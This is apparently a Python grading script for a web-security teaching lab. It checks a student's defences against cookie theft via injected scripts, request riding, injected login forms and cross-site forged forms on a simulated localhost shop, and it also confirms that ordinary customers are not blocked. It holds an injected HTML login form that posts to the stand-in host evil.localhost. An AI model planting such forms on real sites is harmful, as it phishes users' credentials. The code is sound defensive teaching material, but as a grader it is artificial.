"""Judge lab 6: what a foreign text and a foreign form can do, and what customers still can."""

from pathlib import Path

from workshop.runner.loading import module_from
from workshop.runner.verdict import Verdict, cost_us

attack = module_from(Path(__file__).with_name("attack.py"))
LOGIN_FORM = (
    '<form action="http://evil.localhost/collect">Please log in again <input name="c"></form>'
)


def check(policy, seed):
    """Theft, riding, false forms, forged forms; then reviews, links and programs."""
    verdict = Verdict()
    _scripts(verdict, policy)
    _forms(verdict, policy)
    _users(verdict, policy)
    verdict.cost(
        f"about {cost_us(lambda: policy.show_review('a <b>fine</b> shop')):.1f} us a review, and "
        f"{cost_us(lambda: policy.may_change('POST', {}, 'shop.localhost')):.1f} us a request"
    )
    return verdict


def _scripts(verdict, policy):
    verdict.attack(
        "theft by fetch",
        not attack.steals(policy, attack.BY_FETCH),
        "A script in a review read the cookie and fetched it away.",
        "Hide the cookie from scripts, and let text stay text.",
    )
    verdict.attack(
        "theft by location=",
        not attack.steals(policy, attack.BY_LOCATION),
        "A script in a review read the cookie and left for evil.localhost with it.",
        "No connect-src stops a page from going elsewhere: hide the cookie from scripts.",
    )
    by_tag = attack.rides(policy, attack.BY_FETCH)
    verdict.attack(
        "riding",
        not attack.rides(policy),
        "A script ordered 99 teas in Alice's name without reading anything."
        if by_tag
        else "An image's onerror ordered 99 teas: there are scripts without a script tag.",
        "The browser adds the cookie for any script on the page: foreign text must not be one.",
    )
    shown = policy.show_review(LOGIN_FORM)
    verdict.attack(
        "a false login form",
        "<form" not in shown.lower(),
        "No script runs, but a review drew a login form on the shop's page that posts to Mallory.",
        "A policy is the second wall: turn <, >, &, and quotes into text first.",
    )


def _forms(verdict, policy):
    verdict.attack(
        "a form on evil.localhost",
        not attack.forged_form(policy, "evil.localhost"),
        "A form on evil.localhost ordered 99 teas in Alice's name.",
        "Say SameSite, and look at where a request that changes something comes from.",
    )
    verdict.attack(
        "a form on evil.shop.localhost",
        not attack.forged_form(policy, "evil.shop.localhost"),
        "A form on evil.shop.localhost ordered 99 teas: to SameSite, both are the same site.",
        "Let only your own origin change things: look at Sec-Fetch-Site, or at Origin.",
    )


def _users(verdict, policy):
    shown = policy.show_review("5 < 6 & tea")
    verdict.users(
        "an ordinary review",
        "5 &lt; 6 &amp; tea" in shown,
        f"A customer wrote 5 < 6 & tea, and the page shows something else: {shown}",
        "Escape the text, do not cut things out of it.",
    )
    with attack.open_shop(policy) as shop:
        alice = shop.browser("alice")
        alice.log_in()
        own = alice.post("/cart", {"item": "tea", "quantity": 1}).status
        verdict.users(
            "ordering on the shop's own page",
            own == 200 and alice.me() == "alice",
            f"Alice's own order was answered {own}.",
            "Requests from your own pages have Sec-Fetch-Site: same-origin.",
        )
        alice.page = "http://mail.example/"
        verdict.users(
            "a link in her mail",
            alice.visit(f"http://{alice.authority}/me").status == 200,
            "Alice followed a link from her mail, and the shop did not know her.",
            "A GET changes nothing, so it may come from elsewhere: Lax, not Strict.",
        )
    verdict.users(
        "a program",
        bool(policy.may_change("POST", {}, "shop.localhost")),
        "A program that is no browser sends neither header, and is refused.",
        "Without either header no browser has attached anybody's cookie: let it through.",
    )
